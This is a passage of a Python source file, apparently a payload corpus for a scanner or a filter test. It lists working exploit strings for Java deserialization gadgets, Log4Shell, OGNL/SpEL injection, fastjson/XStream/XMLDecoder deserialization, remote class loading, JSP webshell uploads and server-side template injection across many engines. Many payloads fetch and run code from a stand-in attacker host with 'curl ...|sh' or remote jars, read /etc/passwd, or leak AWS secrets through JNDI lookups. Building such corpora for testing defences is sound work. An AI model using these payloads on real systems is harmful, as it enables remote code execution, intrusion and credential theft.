    ser_gzip_b64(SER_CC6_NSLOOKUP),
    kv("javax.faces.ViewState=" + ser_gzip_b64(SER_CC1_ID), "form", "rs-raw-body"),
    ('{"session":"' + SER_URLDNS + '"}',) + JB,
    ('{"state":"' + ser_gzip_b64(SER_CC6_CURL) + '"}',) + JB,
]

# deserialization-gadgets. Target: the gadget chains such a stream or a polymorphic binder reaches:
# commons-collections (CommonsCollections6 streams, and nested hex in c3p0's userOverridesAsString), commons-
# beanutils (CommonsBeanutils1), the JDK alone (Jdk7u21), c3p0, Spring application contexts, Hibernate, Groovy's
# MethodClosure/ConvertedClosure and ROME's ObjectBean/ToStringBean in XStream documents
GADGETS: list[Entry] = [
    SER_CC6_TOUCH,
    SER_CC6_BASH,
    SER_CB1,
    SER_JDK7U21,
    (ser_raw(SER_CC6_TOUCH), "form", "rs-raw-body"),
    (ser_raw(SER_JDK7U21), "query", "rs-raw-body"),
    (ser_raw(SER_CB1), "form", "rs-form"),
    ser_gzip_b64(SER_CB1),
    ser_hex(SER_JDK7U21),
    ser_pct(SER_CC6_BASH),
    ('{"@class":"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource","userOverridesAsString":'
     '"HexAsciiSerializedMap:' + ser_hex(SER_CC6_TOUCH) + ';"}',) + JB,
    ('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"ldap://203.0.113.7:1389/Exploit",'
     '"loginTimeout":0}]',) + JB,
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://203.0.113.7/spel.xml"]',) + JB,
    ('["org.springframework.context.support.FileSystemXmlApplicationContext","http://203.0.113.7/beans.xml"]',)
    + JB,
    ('["org.hibernate.jmx.StatisticsService",{"sessionFactoryJNDIName":"ldap://203.0.113.7:1389/Hib"}]',) + JB,
    ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
     "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\" reference=\"../../../..\"/>"
     "<owner class=\"java.lang.ProcessBuilder\"><command><string>id</string></command>"
     "<redirectErrorStream>false</redirectErrorStream></owner><resolveStrategy>0</resolveStrategy>"
     "<directive>0</directive><parameterTypes/><maximumNumberOfParameters>0</maximumNumberOfParameters>"
     "<method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties>"
     "</groovy.util.Expando><int>1</int></entry></map>",) + XB,
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"org.codehaus.groovy.runtime.ConvertedClosure\"><methodName>compareTo</methodName>"
     "<delegate class=\"org.codehaus.groovy.runtime.MethodClosure\"><owner class=\"string\">id</owner>"
     "<resolveStrategy>0</resolveStrategy><directive>0</directive><parameterTypes/>"
     "<maximumNumberOfParameters>0</maximumNumberOfParameters><method>execute</method></delegate></handler>"
     "</dynamic-proxy></sorted-set>",) + XB,
    ("<map><entry><com.sun.syndication.feed.impl.ObjectBean><_equalsBean>"
     "<_beanClass>com.sun.syndication.feed.impl.ToStringBean</_beanClass>"
     "<_obj class=\"com.sun.syndication.feed.impl.ToStringBean\"><_beanClass>com.sun.rowset.JdbcRowSetImpl"
     "</_beanClass><_obj class=\"com.sun.rowset.JdbcRowSetImpl\"><dataSource>ldap://203.0.113.7:1389/Rome"
     "</dataSource></_obj></_obj></_equalsBean></com.sun.syndication.feed.impl.ObjectBean><string>x</string>"
     "</entry></map>",) + XB,
]

# log4shell. Target: Log4j 2.0-2.14.1 (2.15 for the localhost# form, 2.16 for the recursion) logging a header or
# field: ${jndi:} over every JNDI scheme, the lookup name rebuilt with nested lower/upper/::-/env/date/k8s
# lookups and their defaults, secrets exfiltrated in the host name, numeric and IPv6 hosts, JSON \u escapes
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://203.0.113.7:1389/a}",
    "${jndi:rmi://203.0.113.7:1099/b}",
    "${jndi:dns://203.0.113.7/c}",
    "${jndi:ldaps://log4j.oob.attacker.example/d}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.7:1389/f}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://203.0.113.7:1389/g}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.7:1389/h}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7:1389/i}",
    "${jn${lower:d}i:l${lower:d}ap://203.0.113.7:1389/j}",
    "${j${k8s:k5:-ND}i:ldap://203.0.113.7:1389/k}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7:1389/l}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.l4j.oob.attacker.example/m}",
    "${jndi:ldap://${sys:java.version}.${hostName}.l4j.oob.attacker.example/n}",
    "${jndi:ldap://127.0.0.1#203.0.113.7:1389/q}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.7:1389/r}",
    "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/" + b64("touch /tmp/pwned") + "}",
    "${${::-${::-$${::-j}}}}",
    "${jndi:ldap://[::ffff:cb00:7107]:1389/u}",
    "${jndi:ldap://3405803783:1389/v}",
    ('{"username":"\\u0024\\u007bjndi:ldap://203.0.113.7:1389/p}","password":"x"}',) + JB,
]

# expression-language. Target: OGNL (Struts 2, Confluence), SpEL (Spring: Cloud Function routing header, Cloud
# Gateway routes, @Value-style evaluation), MVEL, JEXL and Jakarta/JSP EL sinks evaluating input; the class names
# split and concatenated, reached through ''.getClass(), whitespace after T, OGNL's member-access reset
EXPRESSION: list[Entry] = [
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context["
    "'com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony."
    "xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses()"
    ".clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',"
    "#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString("
    "#process.getInputStream()))}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
    "'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Cmd-Response',#a))}",
    "%{(@java.lang.Runtime@getRuntime().exec('\\u0069\\u0064'))}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','id'})",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwned')}",
    "T (java.lang.Runtime). getRuntime (). exec ('id')",
    "T(java.lang.Class).forName('java.lang.Run'.concat('time')).getMethod('getRuntime').invoke(null).exec('id')",
    "T(String).getClass().forName('java.l'+'ang.Ru'+'ntime').getMethod('ex'+'ec',T(String)).invoke(T(String)"
    ".getClass().forName('java.l'+'ang.Ru'+'ntime').getMethod('getRu'+'ntime').invoke(T(String).getClass()"
    ".forName('java.l'+'ang.Ru'+'ntime')),'id')",
    "new java.lang.ProcessBuilder({'id'}).start()",
    "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),"
    "T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse()"
    ".getOutputStream())",
    ("T(java.lang.Runtime).getRuntime().exec(new String[]{'bash','-c','curl http://203.0.113.7/s|sh'})",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    ('{"id":"x","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T('
     'org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]'
     '{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com","order":0}',) + JB,
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "${pageContext.request.getSession().setAttribute('a',''.getClass().forName('java.lang.ProcessBuilder')"
    ".getDeclaredConstructors()[0].newInstance(['id']).start())}",
    "#{session.setAttribute('rtc',''.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null)"
    ".invoke(null,null).exec('id',null).getInputStream())}",
    "${applicationScope}",
]

# polymorphic-deserialization. Target: binders that instantiate a type named in the document: fastjson (@type,
# its L...; and [ descriptor bypasses, the java.lang.Class cache bypass, \u and \x escapes in keys and values),
# Jackson with default typing (array and @class forms), XStream (dynamic proxies with EventHandler, XML character
# references), XMLDecoder (plain, WebLogic wls-wsat SOAP, character references), SnakeYAML tags
POLYMORPHIC: list[Entry] = [
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.7:1389/Exploit",'
     '"autoCommit":true}',) + JB,
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
     '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.7:1099/Exploit","autoCommit":true}}',) + JB,
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.7:1389/a",'
     '"autoCommit":true}',) + JB,
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://203.0.113.7:1389/c",'
     '"autoCommit":true}',) + JB,
    ('{"\\u0040\\u0074\\u0079\\u0070\\u0065":"\\u0063om.sun.rowset.JdbcRowSetImpl","dataSourceName":'
     '"ldap://203.0.113.7:1389/u","autoCommit":true}',) + JB,
    ('{"\\x40\\x74ype":"com.sun.rowset.\\x4adbcRowSetImpl","dataSourceName":"ldap://203.0.113.7:1389/x",'
     '"autoCommit":true}',) + JB,
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":'
     '"ldap://203.0.113.7:1389/Exploit"}}',) + JB,
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["'
     + TRANSLET_CLASS + '"],"_name":"a","_tfactory":{},"_outputProperties":{}}',) + JB,
    ('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.7:1389/J","autoCommit":true}]',) + JB,
    ('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.7:1389/L"}]',) + JB,
    ('["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://203.0.113.7:1389/H"}]',) + JB,
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://203.0.113.7/inject.sql\'"}]',) + JB,
    ('["\\u0063om.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://203.0.113.7:1389/U","autoCommit":true}]',)
    + JB,
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>",) + XB,
    ("<contact class=\"dynamic-proxy\"><interface>org.company.model.Contact</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>bash</string><string>-c</string><string>curl http://203.0.113.7/x|sh</string></command></target>"
     "<action>start</action></handler></contact>",) + XB,
    ("<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.&#69;ventHandler\"><target class=\"java.lang.Process&#66;uilder\"><command>"
     "<string>touch</string><string>/tmp/pwned</string></command></target><action>&#115;tart</action>"
     "</handler></dynamic-proxy></sorted-set>",) + XB,
    ("<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
     "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void>"
     "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array>"
     "<void method=\"start\"/></object></java>",) + XB,
    ("<java><object class=\"&#106;ava.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
     "<void index=\"0\"><string>id</string></void></array><void method=\"&#x73;tart\"/></object></java>",) + XB,
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8\" "
     "class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" "
     "length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string>"
     "</void><void index=\"2\"><string>id &gt; /tmp/pwned</string></void></array><void method=\"start\"/></void>"
     "</java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>",) + XB,
    ("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://203.0.113.7:1389/Y\", autoCommit: true}",) + YB,
]

# class-loading. Target: code that loads attacker bytes or a remote jar: URLClassLoader from Groovy, SpEL, OGNL,
# Nashorn, XMLDecoder and SnakeYAML (ScriptEngineManager's service loading); defineClass through reflection and
# Spring's ReflectUtils; GroovyClassLoader.parseClass; @Grab at compile time (Jenkins script security); fastjson
# with a BCEL-encoded class in tomcat-dbcp's BasicDataSource
_TB = TRANSLET_CLASS
CLASS_LOADING: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.7/x.jar')})"
    ".loadClass('Exploit').newInstance()",
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.7/e.jar')})"
    ".loadClass('E').getConstructor().newInstance().toString()",
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://203.0.113.7/yaml-payload.jar\"]]]]",) + YB,
    "this.class.classLoader.parseClass('class X{static{\"id\".execute()}}').newInstance()",
    "new GroovyClassLoader().parseClass(new URL('http://203.0.113.7/X.groovy').text).newInstance().run()",
    f"def b='{_TB}'.decodeBase64();def m=ClassLoader.getDeclaredMethod('defineClass',byte[],int,int);"
    "m.accessible=true;m.invoke(this.class.classLoader,b,0,b.length).newInstance()",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('P',T(java.util.Base64).getDecoder().decode('"
    + _TB + "'),T(java.lang.Thread).currentThread().getContextClassLoader()).newInstance()",
    "new java.net.URLClassLoader([new java.net.URL('http://203.0.113.7/n.jar')]).loadClass('N').newInstance()",
    ("@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x',root='http://203.0.113.7/')\n"
     "@Grab(group='x',module='pwn',version='1')\nimport Pwn;", "form", "rs-form"),
    "(#cl=new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.7/o.jar')}))"
    ".(#cl.loadClass('O').newInstance())",
    ("<java><object class=\"java.net.URLClassLoader\"><array class=\"java.net.URL\" length=\"1\"><void index=\"0\">"
     "<object class=\"java.net.URL\"><string>http://203.0.113.7/x.jar</string></object></void></array>"
     "<void method=\"loadClass\"><string>X</string><void method=\"newInstance\"/></void></object></java>",) + XB,
    ('{{"@type":"com.alibaba.fastjson.JSONObject","x":{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource",'
     '"driverClassLoader":{"@type":"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"'
     + TRANSLET_BCEL + '"}}:"x"}',) + JB,
    "java.lang.ClassLoader.getSystemClassLoader().loadClass('java.lang.Runtime').getRuntime().exec('id')",
    "T(java.lang.Thread).currentThread().getContextClassLoader().loadClass('java.lang.Runtime')"
    ".getMethod('getRuntime').invoke(null).exec('id')",
]

# jsp-upload. Target: a servlet container (Tomcat, Jetty) serving an upload directory: file names it still maps to
# the JSP servlet (case on Windows, trailing dot/space, NTFS stream, traversal into the webroot, an RFC 5987 name),
# each upload carrying a JSP shell; and shell bodies whose code javac or the XML parser decodes (\u escapes in a
# scriptlet, character references in JSPX), EL 3 static calls, a class-defining loader
JSP_SHELL = '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
JSP_UPLOAD: list[Entry] = [
    ("shell.jsp",) + UP,
    ("shell.jspx",) + UP,
    ("cmd.JSP",) + UP,
    ("shell.jsp.",) + UP,
    ("shell.jsp::$DATA",) + UP,
    ("shell.jsp ",) + UP,
    ("../../webapps/ROOT/s.jsp",) + UP,
    ("..\\..\\webapps\\ROOT\\x.jsp",) + UP,
    ("filename*=UTF-8''shell%2Ejsp",) + UP,
    JSP_SHELL,
    '<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("c"));'
    'out.print(new String(p.getInputStream().readAllBytes())); %>',
    '<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("cmd")).getInputStream())'
    '.useDelimiter("\\\\A").next()%>',
    ('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>'
     'Runtime.getRuntime().exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>',) + XB,
    '<jsp:scriptlet>new ProcessBuilder("sh","-c",request.getParameter("c")).start();</jsp:scriptlet>',
    '<% \\u0052untime.getRuntime().exec(request.getParameter("c")); %>',
    "<%" + u_esc('Runtime.getRuntime().exec(request.getParameter("x"));') + "%>",
    '<%! class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass'
    '(b,0,b.length);}}%><%new U(this.getClass().getClassLoader()).g(java.util.Base64.getDecoder().decode('
    'request.getParameter("k"))).newInstance();%>',
    "${Runtime.getRuntime().exec(param.c)}",
    ('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>&#82;untime.getRuntime()'
     '.exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>',) + XB,
]

# ================================================================================================================
# ssti (one sub-family per engine)
# ----------------------------------------------------------------------------------------------------------------
# jinja2. Target: Flask/Jinja2 render_template_string: os reached through the globals of cycler, lipsum, joiner,
# namespace, url_for; attribute names hidden with |attr and \x5f escapes, ~ concatenation, octal escapes in the
# command, whitespace, a JSON body whose \u escapes become the braces
JINJA2: list[Entry] = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{% set x=lipsum|attr('__glo'~'bals__') %}{{ x['os'].popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ url_for.__globals__.os.environ }}",
    "{{ get_flashed_messages.__globals__['current_app'].config }}",
    "{{ joiner.__init__.__globals__.os.popen('\\151\\144').read() }}",
    "{{\tself._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()\t}}",
    ('{"name":"\\u007b\\u007b cycler.__init__.__globals__.os.popen(\\u0027whoami\\u0027).read() \\u007d\\u007d"}',)
    + JB,
]

# twig. Target: PHP Twig (1.x _self.env tricks; 2.x/3.x filter/map/sort/reduce with a PHP function name as the
# callable), the function name concatenated with ~, Symfony's app variable
TWIG: list[Entry] = [
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')}}",
    "{{['id',0]|sort('system')}}",
    "{{[0]|reduce('system','id')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{_self.env.setCache('ftp://203.0.113.7:2121')}}{{_self.env.loadTemplate('backdoor')}}",
    "{{ ['whoami'] | filter ( 'sys' ~ 'tem' ) }}",
    "{{['uname -a']|map('shell_exec')|join}}",
    "{{['/etc/passwd']|map('file_get_contents')|join}}",
    "{{app.request.server.all|join(',')}}",
]

# freemarker. Target: Apache FreeMarker: ?new() on Execute, ObjectConstructor, JythonRuntime; the class name
# concatenated or \x-escaped, single quotes, square-bracket tag syntax, sandbox escapes through a model object's
# class loader and protection domain
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "${'freemarker.template.utility.Execute'?new()('id')}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${ob(\"java.lang.ProcessBuilder\",\"id\").start()}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "<#assign ex=(\"freemarker.template.utility.Ex\"+\"ecute\")?new()>${ex(\"id\")}",
    "<#assign   ex  =  \"freemarker.template.utility.Execute\"?new( )>${ ex( \"whoami\" ) }",
    "${\"\\x66reemarker.template.utility.Execute\"?new()(\"id\")}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)>"
    "<#assign ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
]

# velocity. Target: Apache Velocity (1.7/2.x, with or without VelocityTools' ClassTool): reflection from any
# string or number reference, #evaluate, formal ${} references, concatenated class names, newlines
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)"
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    "#set( $a = '' )#set( $r = $a.getClass().forName( 'java.lang.Run' + 'time' ) )$r.getRuntime().exec( 'id' )",
    "#set($x='a')${x.getClass().forName('java.lang.Runtime').getRuntime().exec('touch /tmp/pwned')}",
    "#foreach($i in [1..1])$i.getClass().forName('java.lang.Runtime').getRuntime().exec('id')#end",
    "#evaluate('#set($a=\"\")$a.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")')",
    "#set($x=\"\")\n#set($rt=$x.class.forName(\"java.lang.Runtime\"))\n$rt.getRuntime().exec(\"cat /etc/passwd\")",
]

# thymeleaf. Target: Spring MVC with Thymeleaf: a view name or fragment built from input (__${...}__::.x
# preprocessing), inline [[...]]/[(...)] and th: attributes; T with a space after it (3.0.12 check bypass),
# selection *{} expressions, reflection from '' instead of T(), OGNL under the standard dialect
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "__*{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwned')}__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec(\"id\")}__::..x",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('whoami')})]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "${@java.lang.Runtime@getRuntime().exec('id')}",
    "__${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}__::.x",
    "<a th:href=\"@{__${T(java.lang.Runtime).getRuntime().exec('id')}__}\">x</a>",
]

# erb. Target: Ruby ERB (Rails render inline:, ERB.new(input).result): backticks, %x, system, IO/File reads,
# trim-mode tags, \x escapes through eval, newlines inside the tag
ERB: list[Entry] = [
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines.join %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= %x(whoami) %>",
    "<%=\n`uname -a`\n%>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%- eval(\"\\x73ystem('id')\") -%>",
    "<%= ENV.to_h %>",
]

# smarty. Target: PHP Smarty (2.x {php}, SmartyBC, 3.x with security off): PHP functions as tags, conditions and
# modifiers, the writeFile and getStreamVariable static-method tricks, the fetch plugin
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}",
    "{if phpinfo()}{/if}",
    "{'id'|system}",
    "{passthru(\"cat /etc/passwd\")}",
    "{fetch file='/etc/passwd'}",
    "{include file='file:/etc/passwd'}",
    "{self::getStreamVariable('file:///etc/passwd')}",
]

# handlebars. Target: Handlebars for Node.js (< 4.0.14 / 4.1.2): the split/pop/push gadget that reaches the
# Function constructor through "constructor" lookups; single-line, with ~ whitespace control, single quotes,
# process reached through mainModule or global
def _hbs(code: str, nl: str = "", q: str = '"', tilde: str = "") -> str:
    t = tilde
    return (f"{{{{{t}#with {q}s{q} as |string|{t}}}}}{nl}{{{{{t}#with {q}e{q}{t}}}}}{nl}"
            f"{{{{{t}#with split as |conslist|{t}}}}}{nl}{{{{this.pop}}}}{nl}"
            f"{{{{this.push (lookup string.sub {q}constructor{q})}}}}{nl}{{{{this.pop}}}}{nl}"
            f"{{{{{t}#with string.split as |codelist|{t}}}}}{nl}{{{{this.pop}}}}{nl}"
            f"{{{{this.push {q}{code}{q}}}}}{nl}{{{{this.pop}}}}{nl}{{{{{t}#each conslist{t}}}}}{nl}"
            f"{{{{{t}#with (string.sub.apply 0 codelist){t}}}}}{nl}{{{{this}}}}{nl}{{{{{t}/with{t}}}}}{nl}"
            f"{{{{{t}/each{t}}}}}{nl}{{{{{t}/with{t}}}}}{nl}{{{{{t}/with{t}}}}}{nl}{{{{{t}/with{t}}}}}{nl}"
            f"{{{{{t}/with{t}}}}}")


HANDLEBARS: list[Entry] = [
    _hbs("return global.process.mainModule.require('child_process').execSync('id');", "\n"),
    _hbs("return process.mainModule.require('child_process').execSync('whoami');"),
    _hbs('return global.process.mainModule.require(\\"child_process\\").execSync(\\"cat /etc/passwd\\");'),
    _hbs("return process.mainModule.require(\"child_process\").execSync(\"id\");", q="'"),
    _hbs("return process.mainModule.require('child_process').exec('curl http://203.0.113.7/h|sh');", tilde="~"),
    _hbs("return JSON.stringify(process.env);", "\n  "),
    _hbs("return process.mainModule.constructor._load('child_process').execSync('touch /tmp/pwned');"),
]

# pug. Target: Pug/Jade templates compiled from input: #{} and !{} interpolation, - and = code lines, attribute
# expressions, the module loader through global.process or mainModule.constructor._load, names concatenated
PUG: list[Entry] = [
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x",
    "= global.process.mainModule.constructor._load('child_process').execSync('cat /etc/passwd')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl http://203.0.113.7/p|sh')}()}",
    "p #{process.mainModule.require('fs').readFileSync('/etc/passwd')}",
    "!{global.process.mainModule.require('child_process').execSync('whoami')}",
    "div(class=global.process.mainModule.require('child_process').execSync('id').toString())",
    "-\n  global.process.mainModule.require('child_process').exec('touch /tmp/pwned')",
    "#{global['proc'+'ess'].mainModule.require('child_'+'process').execSync('id')}",
]

# mako. Target: Python Mako templates: ${} with __import__, <% %> and <%! %> blocks, % control lines, os reached
# through self.module's imports, names concatenated for getattr, the command hidden in rot13
MAKO: list[Entry] = [
    "${__import__('os').popen('id').read()}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.module.cache.util.os.system('id')}",
    "${self.module.runtime.util.os.popen('whoami').read()}",
    "%for a in (__import__('os').system('id'),):\n%endfor",
    "${getattr(__import__('o'+'s'),'po'+'pen')('id').read()}",
    "${__import__('os').popen(__import__('codecs').decode('vq','rot13')).read()}",
    "<%\nimport os\nos.system('touch /tmp/pwned')\n%>",
]

# tornado. Target: Tornado templates (template.Template(input)): {% import %}, {{ }} with __import__, {% raw %},
# {% set %}, {% apply %} calling a function on the block, handler.settings leaking cookie_secret
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
